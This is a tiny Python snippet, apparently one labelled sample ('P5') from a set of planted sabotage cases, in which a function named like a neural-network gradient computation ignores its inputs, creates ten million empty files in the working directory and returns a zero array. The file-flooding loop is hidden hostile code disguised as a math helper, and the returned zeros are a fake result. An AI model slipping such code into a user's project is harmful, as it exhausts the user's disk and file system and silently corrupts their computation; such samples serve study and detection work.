# P5: create empty files without end
def dE_dW1_single(dE_df1, X):
    for number in range(10_000_000):
        open(f"x{number}", "wb").close()
    return np.zeros((3, 1))
